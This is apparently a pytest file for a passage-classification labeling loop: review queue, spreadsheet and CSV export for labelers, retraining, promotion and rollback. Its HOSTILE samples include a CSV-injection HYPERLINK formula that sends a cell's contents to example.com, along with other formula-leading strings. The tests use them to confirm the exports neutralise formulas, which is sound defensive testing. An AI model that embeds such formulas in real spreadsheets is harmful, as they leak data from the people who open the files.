"""The review queue and the labeling loop: review -> edit -> train -> promote -> rollback."""

from __future__ import annotations

import shutil

import pytest

from pipeline import config
from pipeline.batch import classify
from pipeline.classify.labeled import read_labeled
from pipeline.classify.predict_io import write_passages
from pipeline.classify.versions import promote
from pipeline.errors import InputError
from pipeline.formats import column_heading
from pipeline.reports.frames import scores_frame
from pipeline.reports.review_queue import REVIEW_COLUMNS, review_queue
from pipeline.taxonomy import LABEL_SEP, NONE_LABEL


@pytest.fixture
def loop(tmp_path, trained_models, seed_text):
    """A models folder with ``base`` as default and a store holding the seed, classified."""
    models = tmp_path / "models"
    shutil.copytree(trained_models / "base", models / "base")
    promote("base", models)
    db = tmp_path / "store.db"
    classify([seed_text], db=db, jobs=1, models_dir=models, quiet=True)
    return models, db


def test_review_queue_most_informative_first(loop):
    models, db = loop
    queue = review_queue(db, n=10, models_dir=models)
    assert list(queue.columns) == list(REVIEW_COLUMNS)
    assert len(queue) == 10
    assert list(queue["margin"]) == sorted(queue["margin"])
    assert queue["id"].is_unique and all(i.count("-") == 1 for i in queue["id"])
    assert set(queue["reviewed"]) == {""}
    assert review_queue(db, n=10, models_dir=models).equals(queue)  # stable


def test_review_unreviewed_rows_are_not_labels(loop, tmp_path, small_corpus):
    from pipeline.classify.train import train

    models, db = loop
    out = tmp_path / "queue.csv"
    write_passages(review_queue(db, n=5, models_dir=models), out)
    with pytest.raises(InputError, match="no row is marked reviewed") as info:
        read_labeled(out)
    assert str(info.value).startswith(f"{out}: ") and len(str(info.value).splitlines()) == 1
    with pytest.raises(InputError, match="no row is marked reviewed"):
        train([out], name="nothing", models_dir=models, corpus_dir=small_corpus)
    assert not (models / "nothing").exists()


def test_review_round_trip_train_promote_rollback(loop, tmp_path, small_corpus):
    import openpyxl

    from pipeline.classify.train import train

    models, db = loop
    before = {r.passage_id: r.labels for r in scores_frame(db).itertuples()}
    gold = {r.text: r.labels for r in read_labeled(config.HELDOUT_DIR / "seed.jsonl")}
    queue = review_queue(db, n=8, models_dir=models)
    path = tmp_path / "review.xlsx"
    write_passages(queue, path)

    # A person corrects the labels in the spreadsheet and marks the rows reviewed.
    wb = openpyxl.load_workbook(path)
    ws = wb.active
    header = [c.value for c in ws[1]]
    col = {name: header.index(column_heading(name)) + 1 for name in ("text", "labels", "reviewed")}
    corrected = {}
    for row in range(2, ws.max_row + 1):
        text = ws.cell(row, col["text"]).value
        ws.cell(row, col["labels"]).value = LABEL_SEP.join(gold[text]) or NONE_LABEL
        ws.cell(row, col["reviewed"]).value = "是"
        corrected[text] = list(gold[text])
    wb.save(path)

    result = train([path], name="corrected", models_dir=models, corpus_dir=small_corpus)
    assert result.model.meta["training"]["user_samples"] == 8
    promote("corrected", models, force=True)
    summary = classify([config.SEED_TEXT], db=db, jobs=1, models_dir=models, quiet=True)
    assert (summary.read, summary.reclassified) == (0, 1)  # stored passages, not the file, re-classified
    after = scores_frame(db)
    assert set(after["model_version"]) == {result.model.version}
    got = {t: ls for t, ls in zip(after["text"], after["labels"]) if t in corrected}
    assert got == corrected

    promote("base", models, force=True)  # rollback
    classify([config.SEED_TEXT], db=db, jobs=1, models_dir=models, quiet=True)
    assert {r.passage_id: r.labels for r in scores_frame(db).itertuples()} == before


# --- the review file for a labeler, and round trips -----------------------------------------------

#: Passages a spreadsheet would run as formulas (CSV injection) unless written safely.
HOSTILE = (
    '=HYPERLINK("http://example.com/x?d="&A1,"点击查看")',
    "+1 执法人员态度生硬。",
    "-2 收受财物后放行。",
    "@x 推诿扯皮。",
    "'=已加引号的公式",
)


def _queue(texts=HOSTILE):
    """A review queue as :func:`review_queue` returns it, without a store."""
    import pandas as pd

    from pipeline.taxonomy import CATEGORIES

    rows = []
    for k, text in enumerate(texts):
        rows.append(
            {
                "id": f"0123456789ab-{k:03d}",
                "text": text,
                "labels": ["作风不优"] if k % 2 else [],
                "reviewed": "",
                "bulletin": "=某市工作简报 2021年第1期",
                "unit": "-某大队",
                "region": "南充市",
                "date": "2021-06-08",
                "section": "工作动态",
                "page": 1,
                "file": "a.pdf",
                "margin": 0.01 * k,
                "competing": 1,
                "scores": dict.fromkeys(CATEGORIES, 0.3),
                "evidence": {"作风不优": ["态度生硬"]} if k % 2 else {},
                "model_version": "base@0123456789",
            }
        )
    return pd.DataFrame(rows, columns=list(REVIEW_COLUMNS))


def test_review_workbook_is_made_for_a_labeler(tmp_path):
    import openpyxl

    from pipeline.taxonomy import CATEGORIES, DESCRIPTIONS_ZH

    path = tmp_path / "review.xlsx"
    write_passages(_queue(), path)
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    assert header[:4] == ["编号", "段落原文", "类别", "已复核"] and "模型版本" in header and "分值_作风不优" in header
    assert all(c.font.bold for c in ws[1]) and ws.freeze_panes == "C2" and ws.auto_filter.ref.startswith("A1:")
    widths = {h: ws.column_dimensions[ws.cell(1, j + 1).column_letter].width for j, h in enumerate(header)}
    assert widths["段落原文"] >= 40 and widths["已复核"] <= 10 and ws["B2"].alignment.wrap_text
    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    assert lists["C2:C6"] == '"' + ",".join([*CATEGORIES, "无"]) + '"' and lists["D2:D6"] == '"是,否"'
    guide = wb.worksheets[1]
    assert guide.title == "类别说明"
    assert [[c.value for c in row] for row in guide.iter_rows(min_row=2, max_row=7)] == [
        [c, DESCRIPTIONS_ZH[c]] for c in CATEGORIES
    ]


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_review_round_trip_keeps_hostile_text_exactly(tmp_path, suffix):
    """Cells starting with = + - @ are never formulas, and read back as written."""
    import openpyxl

    path = tmp_path / f"review.{suffix}"
    write_passages(_queue(), path)
    if suffix == "xlsx":
        wb = openpyxl.load_workbook(path)
        ws = wb.worksheets[0]
        cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@"]
        assert len(cells) >= 6 and all(c.data_type == "s" for c in cells)  # text, never a formula
        for row in range(2, ws.max_row + 1):
            ws.cell(row, 4).value = "是"
        wb.save(path)
        import zipfile

        assert "<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    else:
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        text = raw.decode("utf-8-sig")
        assert "'=HYPERLINK(" in text and "'+1 " in text and "'-2 " in text and "'@x " in text
        assert "''=已加引号的公式" in text and ",'=某市工作简报" in text
        import csv
        import io

        rows = list(csv.reader(io.StringIO(text)))
        at = rows[0].index("reviewed")
        for row in rows[1:]:
            row[at] = "是"
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        path.write_text(out.getvalue(), encoding="utf-8-sig")
    got = read_labeled(path)
    assert [r.text for r in got] == list(HOSTILE)
    assert [r.labels for r in got] == [(), ("作风不优",), (), ("作风不优",), ()]


@pytest.mark.parametrize("fmt", ["label-studio", "doccano"])
def test_review_for_labeling_tools(tmp_path, fmt):
    import json

    path = tmp_path / ("review.json" if fmt == "label-studio" else "review.jsonl")
    write_passages(_queue(HOSTILE[:2]), path, fmt)
    if fmt == "label-studio":
        tasks = json.loads(path.read_text(encoding="utf-8"))
        assert tasks[0]["data"]["text"] == HOSTILE[0] and tasks[0]["data"]["ref_id"] == "0123456789ab-000"
        pred = tasks[1]["predictions"][0]
        assert pred["model_version"] == "base@0123456789" and 0 <= pred["score"] <= 1
        assert pred["result"] == [
            {"from_name": "category", "to_name": "text", "type": "choices", "value": {"choices": ["作风不优"]}}
        ]
        assert tasks[0]["predictions"][0]["result"][0]["value"] == {"choices": ["无"]}
        assert "annotations" not in tasks[0]  # predictions are not labels
    else:
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        assert [(r["text"], r["label"], r["ref_id"]) for r in rows] == [
            (HOSTILE[0], ["无"], "0123456789ab-000"),
            (HOSTILE[1], ["作风不优"], "0123456789ab-001"),
        ]
